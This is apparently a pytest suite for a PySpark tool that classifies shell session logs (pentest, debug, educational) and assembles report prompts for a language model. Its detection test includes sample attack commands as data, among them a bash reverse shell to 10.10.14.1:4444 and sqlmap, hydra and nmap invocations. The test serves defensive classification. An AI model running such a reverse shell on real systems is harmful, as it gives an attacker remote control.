from datetime import datetime, timedelta, timezone

import pytest
from pyspark.sql import functions as F

from shelltrace.operators import detect, render, templates
from shelltrace.operators.ordered import LogOrder
from shelltrace.operators.preprocess import preprocess, to_cached
from shelltrace.plans.report import plan_reports
from shelltrace.sources import reports

BASE = datetime(2024, 1, 1, 10, 0, tzinfo=timezone.utc)
EVENT = (
    "session_id string, seq long, ts timestamp, cwd string, stdin string, stdout string,"
    " stderr string, exit_code long, duration_ms long"
)


def log(spark, sessions, outputs=None, step=1):
    rows = [
        (sid, i, BASE + timedelta(seconds=step * i), "/tmp", c, (outputs or {}).get(c, ""), "", 0, 10 * i)
        for sid, commands in sessions.items()
        for i, c in enumerate(commands)
    ]
    return spark.createDataFrame(rows, EVENT)


def meta(spark, *ids):
    return spark.createDataFrame(
        [(s, "2024-01-01T10:00:00Z", "m", "0.1.0") for s in ids],
        "session_id string, started_at string, model string, version string",
    )


def detected(spark, commands):
    return detect.detect_sessions(log(spark, {"s": commands})).first()


def test_detection_scenarios(spark):
    sessions = {
        "pentest": ["nmap -sV 10.10.10.1", "gobuster dir -u http://10.10.10.1",
                    "sqlmap -u http://10.10.10.1/v?id=1", "hydra -l admin ssh://10.10.10.1"],
        "dev": ["go build ./...", "go test ./internal/...", "git commit -m 'fix'", "npm test",
                "docker build -t myapp ."],
        "ip": ["nmap 10.10.14.5", "curl http://10.129.45.12"],
        "shell": ["bash -i >& /dev/tcp/10.10.14.1/4444 0>&1"],
        "python": ["python3 -c 'import socket,os;s=socket.socket()'"],
        "plain": ["echo hello", "cat /etc/hostname", "date"],
        "mixed": ["nmap -sV 10.10.10.1", "go build", "sqlmap -u x", "git commit", "hydra x"],
        "repeat": [f"nmap scan{i}" for i in range(10)],
        "sudo": ["sudo nmap -sV target", "sudo gobuster dir"],
    }
    rows = {r.session_id: r for r in detect.detect_sessions(log(spark, sessions)).collect()}
    kinds = {s: r.session_type for s, r in rows.items()}
    assert kinds == {
        "pentest": "pentest", "dev": "debug", "ip": "pentest", "shell": "pentest",
        "python": "pentest", "plain": "educational", "mixed": "pentest",
        "repeat": "educational", "sudo": "pentest",
    }
    assert rows["pentest"].confidence >= 0.5 and rows["dev"].confidence >= 0.3
    assert rows["plain"].confidence == 0.0
    assert rows["plain"].reasons == ["no strong signals detected"]
    assert rows["repeat"].confidence == pytest.approx(0.3 / 1.3)
    assert rows["ip"].reasons == [
        "pentest tool: nmap", "HTB/CTF IP range detected (10.10.x.x / 10.129.x.x)"
    ]
    assert rows["sudo"].reasons == ["pentest tool: nmap", "pentest tool: gobuster"]


def test_equal_scores_go_to_pentest(spark):
    # sqlmap 0.4 against go 0.2 + yarn 0.2, too weak; twice that is enough.
    row = detected(spark, ["go x", "yarn", "gcc", "sqlmap", "msfvenom", "cargo", "docker x"])
    assert row.session_type == "debug"
    row = detected(spark, ["go x", "yarn", "gcc", "mvn", "sqlmap", "msfvenom"])
    assert row.session_type == "pentest" and row.confidence == pytest.approx(0.8 / 1.8)


def test_weights_and_patterns_can_be_replaced(spark):
    weights = spark.createDataFrame(
        [("frob", "ops", "0.90", "ops tool")],
        "tool string, type string, weight string, reason string",
    )
    signals = (detect.CommandSignal("deploy", "deploy", "ops", "0.50", "deploys"),)
    row = detect.detect_sessions(
        log(spark, {"s": ["frob deploy", "nmap"]}), weights, signals
    ).first()
    assert (row.session_type, row.reasons) == ("ops", ["ops tool", "deploys"])


def test_preprocess_collapses_repeats(spark):
    df = log(spark, {"s": ["whoami"] * 3 + ["id"]}, {"whoami": "root\n", "id": "uid=0"})
    rows = preprocess(df).orderBy("seq").collect()
    assert [(r.stdin, r.repeat_count, r.tool_name) for r in rows] == [
        ("whoami", 3, "whoami"), ("id", 1, "id")
    ]
    assert {r.cache_version for r in to_cached(df).collect()} == {2}


def test_viewer_output_takes_the_shown_tool(spark):
    df = log(
        spark, {"s": ["cat scan.txt", "wc scan.txt"]},
        dict.fromkeys(["cat scan.txt", "wc scan.txt"], "Nmap scan report for x\nnoise\n80/tcp open h"),
    )
    rows = preprocess(df).orderBy("seq").collect()
    assert rows[0].tool_name == "nmap"
    assert rows[0].processed_stdout == "Nmap scan report for x\n80/tcp open h"
    assert rows[1].tool_name == "wc" and "noise" in rows[1].processed_stdout


def test_command_list_format(spark):
    rows = [
        ("s", 0, "/tmp", "nmap -sV target", "open\n", 0, 5000, 1),
        ("s", 1, "/", "whoami", "root", 0, 1, 5),
        ("s", 2, "/", "cat x", "", 1, 2, 1),
    ]
    df = spark.createDataFrame(
        rows,
        "session_id string, seq long, cwd string, stdin string, processed_stdout string,"
        " exit_code long, duration_ms long, repeat_count long",
    )
    assert render.command_lists(df).first().text == (
        "#1  [0 | 5000ms | /tmp] nmap -sV target\n--- output ---\nopen\n--- end output ---\n"
        "#2  [0 | 1ms | /] whoami (repeated 5x)\n--- output ---\nroot\n--- end output ---\n"
        "#3 ![1 | 2ms | /] cat x\n"
    )


@pytest.mark.parametrize("order", [None, LogOrder(rows_per_slice=4)])
def test_report_routes_and_prompts(spark, order, monkeypatch):
    if order is not None:
        monkeypatch.setattr("shelltrace.plans.report.choose_order", lambda df: order)
    long = [f"echo {i}" for i in range(23)]
    df = log(spark, {"long": long, "short": ["ls", "id {{ .Context }}", "id {{ .Context }}", "w"]})
    plan = plan_reports(df, meta(spark, "long", "short"), chunk_size=5)
    routes = {r.session_id: (r.route, r.n_events, r.template) for r in plan.sessions.collect()}
    assert routes == {
        "long": ("chunked", 23, "educational"), "short": ("direct", 2, "educational")
    }
    direct = plan.direct_prompts.collect()
    assert len(direct) == 1
    assert "#1  [0 | 10ms | /tmp] id {{ .Context }} (repeated 2x)\n#2 " in direct[0].text
    assert "What it was for: General terminal session\n" in direct[0].text
    assert direct[0].system == templates.get_template("educational").system
    chunks = plan.chunk_prompts.orderBy("chunk_index").collect()
    assert [c.text.split("\n")[0] for c in chunks] == [
        "Chunk 1 (5 commands, 10:00:00 - 10:00:04):",
        "Chunk 2 (5 commands, 10:00:05 - 10:00:09):",
        "Chunk 3 (5 commands, 10:00:10 - 10:00:14):",
        "Chunk 4 (5 commands, 10:00:15 - 10:00:19):",
        "Chunk 5 (3 commands, 10:00:20 - 10:00:22):",
    ]
    assert chunks[4].text.endswith("#3  [0 | 220ms | /tmp] echo 22\n")
    summaries = plan.chunks.select(
        "session_id", "chunk_index", F.concat(F.lit(" s"), "chunk_index", F.lit("\n")).alias("summary")
    )
    final = plan.final_prompts(summaries).collect()
    assert [f.session_id for f in final] == ["long"]
    assert final[0].text.startswith(
        "Context: General terminal session\n\nSession: long | Started: 2024-01-01T10:00:00Z"
        " | Total commands: 23 | Chunks: 5\n\nPhase 1 (10:00:00 - 10:00:04, 5 commands):\ns0\n\n"
    )
    assert final[0].text.endswith("Phase 5 (10:00:20 - 10:00:22, 3 commands):\ns4\n\n")


def test_explicit_template_without_chunks_in_parts(spark):
    df = log(spark, {"s": [f"echo {i}" for i in range(20)]})
    plan = plan_reports(
        df, meta(spark, "s"), context="Audit", template="pentest", chunk_size=0, max_part_bytes=100
    )
    parts = plan.direct_prompts.orderBy("part").collect()
    assert len(parts) > 3 and all(len(p.text) < 200 for p in parts)
    text = "".join(p.text for p in parts)
    assert text.startswith("Engagement: Audit\nEvidence is session s, begun 2024-01-01T10:00:00Z: 20 commands.\n\n#1 ")
    assert text.endswith("#20  [0 | 190ms | /tmp] echo 19\n")
    assert plan.chunk_prompts.isEmpty()
    with pytest.raises(KeyError, match="available: debug, educational, pentest"):
        plan_reports(df, meta(spark, "s"), template="nope")


def test_template_registry(spark):
    assert templates.list_templates() == ["debug", "educational", "pentest"]
    names = [r.name for r in templates.templates_table(spark).collect()]
    assert names == templates.list_templates()
    mine = templates.Template("mine", "d", "sys", "{{.CommandList}}|{{ .CommandCount }}|{{ .CommandList }}!")
    templates.register_template(mine)
    try:
        df = log(spark, {"s": ["id", "w"]})
        text = plan_reports(df, meta(spark, "s"), template="mine").direct_prompts.first().text
        listing = "#1  [0 | 0ms | /tmp] id\n#2  [0 | 10ms | /tmp] w\n"
        assert text == f"{listing}|2|{listing}!"
        templates.register_template(templates.Template("mine", "d", "sys", "other"))
        assert templates.get_template("mine").user == "other"
    finally:
        templates.unregister_template("mine")
    with pytest.raises(ValueError):
        templates.register_template(templates.Template("bad", "", "", "{{ if .X }}"))
    with pytest.raises(ValueError):
        templates.register_template(templates.Template("bad", "", "", "{{ .Other }}"))


def test_responses_stop_at_the_first_done(spark):
    lines = [
        ("a", 0, '{"message":{"content":"x "},"done":false}'),
        ("a", 1, '{"message":{"content":"y"},"done":true}'),
        ("a", 2, '{"message":{"content":"z"},"done":true}'),
        ("b", 0, '{"message":{"content":"open"}}'),
    ]
    df = spark.createDataFrame(lines, "request_id string, seq long, value string")
    for order in (None, LogOrder(("request_id",), rows_per_slice=1)):
        rows = reports.assemble_responses(reports.parse_fragments(df), order=order).collect()
        assert sorted((r.request_id, r.content, r.n_tokens) for r in rows) == [
            ("a", "x y", 2), ("b", "open", 1)
        ]


def test_request_body_and_report_header(spark):
    df = spark.createDataFrame([("m", "sys", 'say "hi"\n')], "model string, system string, text string")
    assert reports.chat_requests(df).first().request == (
        '{"keep_alive":0,"messages":[{"role":"system","content":"sys"},'
        '{"role":"user","content":"say \\"hi\\"\\n"}],"model":"m",'
        '"options":{"temperature":0.3},"stream":true}'
    )
    with pytest.raises(ValueError, match="in parts"):
        reports.chat_requests(df.withColumn("part", F.lit(0)))
    responses = spark.createDataFrame(
        [("s", 0, "# R"), ("s", 1, "more")], "session_id string, part long, content string"
    )
    now = F.lit("2024-02-01 01:02:03").cast("timestamp")
    docs = reports.render_reports(responses, meta(spark, "s"), "tool", now).orderBy("part").collect()
    assert docs[0].body == "<!-- Generated by tool 0.1.0 | Session s | 2024-02-01T01:02:03Z -->\n\n# R"
    assert docs[1].body == "more"


def test_broken_fragment_stops_and_missing_metadata_does_not(spark):
    lines = [("r", i, v) for i, v in enumerate(['{"message":{"content":"a"}}', "junk"])]
    broken = reports.parse_fragments(spark.createDataFrame(lines, "request_id string, seq long, value string"))
    with pytest.raises(Exception, match="MALFORMED_RECORD"):
        broken.collect()
    answers = spark.createDataFrame([("other", 0, "x")], "session_id string, part long, content string")
    (doc,) = reports.render_reports(answers, meta(spark, "s"), "tool").collect()
    assert "tool unknown | Session other" in doc.body and doc.body.endswith("x")
